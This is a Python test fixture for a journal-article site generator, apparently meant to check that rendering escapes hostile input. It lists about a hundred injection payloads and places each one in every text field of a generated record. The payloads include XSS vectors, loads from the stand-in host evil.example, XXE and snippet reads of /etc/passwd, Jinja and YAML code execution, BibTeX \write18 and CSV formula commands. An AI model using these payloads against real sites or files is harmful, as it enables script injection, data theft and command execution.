"""Texts that mean harm, and a record that holds one of them in every field that takes text.

What would run calls ``hit`` (which a page under test has as a trap), opens a dialog, or asks
``evil.example`` for something.
"""

from __future__ import annotations

from typing import Any

from generator import registry
from generator.model import Withdrawal

EVIL = "http://evil.example/"

PAYLOADS: dict[str, str] = {
    # HTML
    "script": "<script>hit('script')</script>",
    "script-foreign": f'<script src="{EVIL}a.js"></script>',
    "script-broken": "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "script-newline": "<script\n>hit(1)</script\n>",
    "script-slash": "<script/x>hit(1)</script>",
    "img-onerror": "<img src=x onerror=hit(1)>",
    "img-foreign": f"<img src={EVIL}a.png>",
    "img-protocol-relative": "<img src=//evil.example/a.png>",
    "svg-onload": "<svg onload=hit(1)>",
    "svg-script": "<svg><script>hit(1)</script></svg>",
    "svg-animate": "<svg><a xlink:href='javascript:hit(1)'><rect width=100 height=100 /></a></svg>",
    "math": "<math><mi//xlink:href='javascript:hit(1)'>x",
    "iframe": "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "object": f"<object data={EVIL}a.swf></object><embed src={EVIL}a.swf>",
    "base": f"<base href={EVIL}>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "link-style": f"<link rel=stylesheet href={EVIL}a.css>",
    "style-import": f"<style>@import '{EVIL}a.css';</style>",
    "style-attribute": f"<p style='background:url({EVIL}a.png)'>x</p>",
    "form": f"<form action={EVIL}><input name=q autofocus onfocus=hit(1)></form>",
    "details": "<details open ontoggle=hit(1)><summary>x</summary></details>",
    "video": f"<video src={EVIL}a.mp4 onerror=hit(1)></video>",
    "template": "<template><img src=x onerror=hit(1)></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></noscript>",
    "textarea": "</textarea><img src=x onerror=hit(1)>",
    "title-break": "</title><script>hit(1)</script>",
    "style-break": "</style><script>hit(1)</script>",
    "head-break": "</head><body onload=hit(1)>",
    "comment": "<!-- --><script>hit(1)</script><!--",
    "comment-odd": "<!--><script>hit(1)</script>-->",
    "cdata": "<![CDATA[<script>hit(1)</script>]]>",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "processing": "<?php hit(1) ?><?xml-stylesheet href='http://evil.example/a.xsl'?>",
    "attribute-double": '" onmouseover="hit(1)" autofocus onfocus="hit(1)" x="',
    "attribute-single": "' onmouseover='hit(1)' autofocus onfocus='hit(1)' x='",
    "attribute-tag": '"><img src=x onerror=hit(1)>',
    "attribute-tick": "` onmouseover=hit(1) `",
    "entities": "&lt;script&gt;hit(1)&lt;/script&gt; &#60;img src=x onerror=hit(1)&#62;",
    "full-width": "＜script＞hit(1)＜/script＞",
    # data that stands in scripts
    "json-break": '"}</script><script>hit(1)</script>',
    "json-comment": "<!--<script>",
    "json-separators": "a\u2028hit(1)\u2029b",
    "json-backslash": '\\"};hit(1);//',
    # Markdown and its extensions
    "md-link": "[word](javascript:hit(1))",
    "md-link-case": "[word](JaVaScRiPt:hit(1))",
    "md-link-entity": "[word](&#106;avascript:hit(1))",
    "md-link-tab": "[word](java\tscript:hit(1))",
    "md-link-space": "[word]( javascript:hit(1))",
    "md-link-data": "[word](data:text/html,<script>hit(1)</script>)",
    "md-link-data-64": "[word](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "md-link-vbscript": "[word](vbscript:hit(1))",
    "md-link-file": "[word](file:///etc/passwd)",
    "md-link-quote": '[word](https://example.org/"onmouseover="hit(1)")',
    "md-link-user": "[word](https://example.org@evil.example/)",
    "md-image": f"![word]({EVIL}a.png)",
    "md-autolink": "<javascript:hit(1)>",
    "md-reference": "[word][1]\n\n[1]: javascript:hit(1)",
    "md-heading": "# Heading\n\n## Another\n\nSetext\n======",
    "md-code": "```html\n<script>hit(1)</script>\n```",
    "md-rule": "---\n\n***\n\n___",
    "md-quote": "> quote\n> > another",
    "md-list": "1. one\n2. two\n\n- three\n+ four",
    "md-table": "| a | b |\n|---|---|\n| c | d |",
    "md-attributes": "word {: onclick=hit(1) .mq-cite #content style=color:red }",
    "md-attributes-block": "word\n{: onclick='hit(1)' onmouseover='hit(1)' }",
    "md-attributes-heading": "Heading { #content onclick=hit(1) }",
    "md-footnote": "word[^1]\n\n[^1]: note <script>hit(1)</script>",
    "md-abbreviation": "*[word]: <b onclick=hit(1)>\n\nword",
    "md-admonition": '!!! danger "Title"\n    word',
    "md-details": '???+ note "Title"\n    word',
    "md-tab": '=== "Tab"\n    word',
    "md-block": "::: generator.files\n\n/// details | word\n    open: true\n///",
    "md-snippet": '--8<-- "/etc/passwd"\n\n;--8<-- "mkdocs.yml"',
    "md-toc": "[TOC]\n\n[[TOC]]",
    "md-emoji": ":smile: :material-account: <i class='twemoji'>x</i>",
    "md-keys": "++ctrl+alt+del++ ==mark== ^^ins^^ ~~del~~ {++add++}{--cut--}",
    "md-math": "$$\\href{javascript:hit(1)}{x}$$ \\(x\\)",
    "md-stash": "wzxhzdk:0 klzzwxh:0001 STXamp;ETX",
    "md-html-block": "<div markdown=1>\n\n**bold** <script>hit(1)</script>\n\n</div>",
    # templates and front matter
    "jinja-print": "{{ 7 * 7 }} {{ config.__class__.__init__.__globals__ }}",
    "jinja-block": "{% for x in range(9) %}x{% endfor %}{% include '/etc/passwd' %}",
    "jinja-comment": "{# gone #}{{ '{{' }}",
    "front-matter": "---\ntemplate: ../../etc/passwd\ntitle: x\n---\nword",
    "front-matter-end": "x\n...\n---\n!!python/object/apply:os.system ['touch hit']",
    "placeholder": "{n} {q} {0.__class__} %s %(x)s ${x}",
    # letters
    "next-line": "a\u0085=1+1",
    "bidi": "abc\u202egnp.exe\u202c \u2066x\u2069 \u200fy",
    "zero-width": "wo\u200brd\u200d \ufeffx \u00ad",
    "combining": "Z" + "\u0351\u0336" * 60,
    "private": "\ue000\uf8ff\U000f0000 \U000e0041\U000e0042",
    "long-word": "w" * 6000,
    "long-marks": "*" * 400 + "^{" * 400 + "[" * 400 + "}" * 400 + "](x)" * 400,
    "nested": "^{" * 300 + "x" + "}" * 300,
    # files of other kinds
    "csv": '=HYPERLINK("http://evil.example/","word")',
    "csv-command": "=cmd|'/C calc'!A0",
    "csv-plus": "+1+cmd|'/C calc'!A0",
    "csv-minus": "-2+3+cmd|'/C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "csv-break": 'a"\r\n=1+1,"b',
    "bibtex-break": "x}, note = {y}}\n@article{evil, title={z}",
    "bibtex-open": "x{{{ \\input{/etc/passwd} \\write18{touch hit} %",
    "ris-break": "x\r\nER  - \r\nTY  - JOUR\r\nUR  - javascript:hit(1)",
    "xml-break": "]]></article-title><x xmlns='evil'/>&bogus;",
    # addresses
    "mail": "name@evil.example?subject=x&body=<script>hit(1)</script>",
    "path": "../../../etc/passwd",
    "path-windows": "..\\..\\CON",
    "query": "x?y=z#content&a=b",
}


def record(number: int, text: str) -> dict[str, Any]:
    """A record with the text in each field that takes any text; its id tells the number."""
    every = {"kk": text, "ru": text, "en": text}
    lists = {lang: [text] for lang in every}
    entry = {"text": text, "authors": [text], "year": text, "title": text, "doi": text, "url": text}
    body = [
        {"type": "heading", "level": 1, "text": text},
        {"type": "paragraph", "text": text},
        {"type": "paragraph", "text": f"word {text} word ^{{1}} [1]"},
        {"type": "quote", "text": text},
        {"type": "list", "ordered": True, "items": [{"text": text}, {"text": text}]},
        {"type": "table", "caption": text, "rows": [[text, text], [text, text]]},
        {"type": "figure", "caption": text},
    ]
    return {
        "id": f"hostile-{number}",
        "source": {"file": text},
        "language": "kk",
        "journal": None,
        "issue": {"volume": text, "number": text, "label": text},
        "year": 2024,
        "pages": text if number % 2 else None,
        "first_page": text,
        "doi": text,
        "udc": text,
        "irsti": text,
        "dates": {"received": text, "revised": text, "accepted": text, "published": text},
        "rubric": every,
        "title": every,
        "authors": [
            {
                "name": every, "full_name": every, "affiliations": [1], "orcid": text, "email": text,
                "corresponding": True,
            }
        ],
        "affiliations": lists,
        "abstract": lists,
        "summary": every,
        "keywords": lists,
        "body": body,
        "footnotes": [{"mark": "1", "text": text}, {"mark": text, "text": text}],
        "references": {"original": [{**entry, "same_as": 0}, entry], "romanized": [entry, entry]},
        "author_info": {lang: [{"text": text, "name": text}] for lang in every},
        "funding": every,
        "acknowledgements": every,
        "conflict_of_interest": every,
        "citation": every,
        "acts": [{"registry": "adilet", "id": text}],
        "systems": [text],
        "discarded": [{"text": text, "reason": text}],
        "former_ids": [f"once-{number}"],
        "changes": [{"field": text, "reason": text}, {"date": "2026-01-01", "field": "title", "reason": every}],
        "withdrawn": {"reason": every} if number % 4 == 0 else None,
    }  # fmt: skip


def stone(number: int, text: str) -> registry.Entry:
    """An entry of the register of ids for an article of which nothing else is left."""
    text = registry._clean(text)[:200]
    return registry.Entry(
        id=f"stone-{number}",
        title=f"{text} {'of no other article ' * 10}",  # else it would be known again
        language="ru",
        authors=(text,),
        journal="kaznu-law",
        pages=text,
        file=f"stones/{text}",
        former=(f"once-stone-{number}",),
        withdrawn=Withdrawal(reason={"kk": text, "en": text}, notice="https://example.org/?a=%22%3E"),
    )
